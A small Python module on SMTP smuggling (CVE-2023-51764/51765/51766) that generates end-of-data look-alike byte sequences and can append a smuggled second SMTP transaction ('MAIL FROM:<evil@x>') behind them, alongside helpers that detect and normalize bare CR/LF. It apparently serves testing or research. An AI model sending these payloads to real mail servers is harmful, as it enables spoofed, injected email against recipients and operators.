"""smuggling - what might be taken for the end of a message, and is not.

    variants()               # [b"x\n.\r\n", ...]: all but the one that is the end
    message(variant)         # with a second mail behind it
    has_bare(data)           # a CR or LF that is not of a CRLF
    content(data)            # what an MTA keeps of this DATA, dots taken off
    undouble(data)           # without the dots that are two behind such a one
    put_right(data)          # with CRLF in place of each lone CR and LF

SEC Consult's findings of 2023 (CVE-2023-51764, -51765, -51766) and what lies
around them.
"""

import re

ENDS = (b"", b"\n", b"\r", b"\r\n", b"\n\r", b"\r\r\n", b"\0", b"\r\n\0", b"\0\r\n")
USUAL = ENDS[1:4]
SECOND = b"RSET\r\nMAIL FROM:<evil@x>\r\n"
END = b"\r\n.\r\n"


def variants():
    """Behind a line's text, with two dots, and at the very beginning."""
    found = [b"x" + before + b"." + after for before in ENDS for after in ENDS[1:]]
    found += [b"x" + before + b".." + after for before in USUAL for after in USUAL]
    found += [before + b"." + after for before in (b"", b"\n", b"\r") for after in USUAL]
    return [v for v in found if END not in b"\r\n" + v]


def message(variant, second=SECOND):
    return variant + second


def has_bare(data):
    return bool(re.search(rb"(?<!\r)\n|\r(?!\n)", data))


def content(data):
    """data: without its end."""
    return b"\r\n".join(line[1:] if line[:1] == b"." else line
                        for line in data.split(b"\r\n"))


def undouble(text):
    return re.sub(rb"(\r(?!\n)|(?<!\r)\n)\.\.", rb"\1.", text)


def put_right(text):
    return re.sub(rb"\r\n|\r|\n", b"\r\n", text)
